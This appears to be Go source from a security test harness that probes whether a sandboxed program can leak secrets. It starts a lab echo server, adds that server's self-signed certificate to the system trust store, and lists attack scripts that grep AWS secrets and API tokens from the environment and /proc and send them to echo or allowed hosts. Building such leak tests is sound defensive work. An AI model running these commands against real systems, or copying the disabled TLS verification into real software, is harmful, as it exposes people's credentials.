package main

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"errors"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httputil"
	"time"
)

const (
	echoAddr    = "203.0.113.81"
	systemRoots = "/etc/ssl/certs/ca-certificates.crt"
	certLife    = 24 * time.Hour
)

// echo starts an origin that answers every request with the request, TRACE too, over TLS that this
// machine trusts: its certificate is added to the system's, in the laboratory's overlay.
func (l *laboratory) echo() error {
	cert, err := certificate("echo.test")
	if err != nil {
		return err
	}
	roots := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: cert.Certificate[0]})
	if err := appendTo(systemRoots, string(roots)); err != nil {
		return err
	}
	ln, err := tls.Listen("tcp4", net.JoinHostPort(echoAddr, "443"), &tls.Config{Certificates: []tls.Certificate{cert}, MinVersion: tls.VersionTLS12})
	if err != nil {
		return err
	}
	server := &http.Server{ReadHeaderTimeout: tryTimeout, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		head, err := httputil.DumpRequest(r, true)
		if err == nil {
			w.Write(head) //nolint:errcheck // who asked may be gone
		}
	})}
	l.close = append(l.close, func() { server.Close() })
	go server.Serve(ln) //nolint:errcheck // ends when it is closed
	return nil
}

// certificate makes one for names, which is its own authority.
func certificate(names ...string) (tls.Certificate, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return tls.Certificate{}, err
	}
	now := time.Now()
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: names[0]}, DNSNames: names,
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(certLife), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, err
}

// secrets are about values that the person has, and about one that the program is to use.
func secrets() []attack {
	const reflect = "{A} ask \"$HTTP_PROXY\" echo.test:443 "
	list := []attack{
		{name: "tokens in the person's environment", script: "env | grep -a AWS_SECRET"},
		{name: "a token that the program is to use: read", script: "echo \"$API_TOKEN\"; cat /proc/*/environ | tr '\\0' '\\n' | grep -a API_TOKEN", alone: true},
		{name: "the same, sent back by TRACE", needs: lab, script: reflect + "TRACE \"$API_TOKEN\"", tell: "reflects_request", alone: true},
		{name: "the same, sent back in an answer", needs: lab, script: reflect + "GET \"$API_TOKEN\"", alone: true},
		{
			name: "the same, sent to another allowed host", needs: lab, script: "{A} ask \"$HTTP_PROXY\" allowed.test:80 GET \"$API_TOKEN\"",
			check: func(a *attempt) bool { return a.lab.heard(a.canary) }, tell: "secret_misplaced", alone: true,
		},
	}
	for i := range list {
		list[i].group = "secrets"
		if list[i].check == nil {
			list[i].check = leaks
		}
	}
	return list
}

// askWith sends a request with a token in Authorization, and prints the answer.
func askWith(proxy, target, method, token string, out io.Writer) error {
	host, port, err := net.SplitHostPort(target)
	if err != nil {
		return err
	}
	request := method + " / HTTP/1.1\r\nHost: " + host + "\r\nAuthorization: Bearer " + token + "\r\nConnection: close\r\n\r\n"
	c, err := tunnel(proxy, target)
	if err != nil {
		return err
	}
	if port != "443" {
		return talk(c, request, out)
	}
	defer c.Close()
	// The attacker does not care who answers.
	encrypted := tls.Client(c, &tls.Config{ServerName: host, InsecureSkipVerify: true, MinVersion: tls.VersionTLS12}) // #nosec
	if err := c.SetDeadline(time.Now().Add(tryTimeout)); err != nil {
		return err
	}
	_, err = io.Copy(encrypted, bytes.NewBufferString(request))
	_, again := io.Copy(out, io.LimitReader(encrypted, 1<<16))
	return errors.Join(err, again)
}
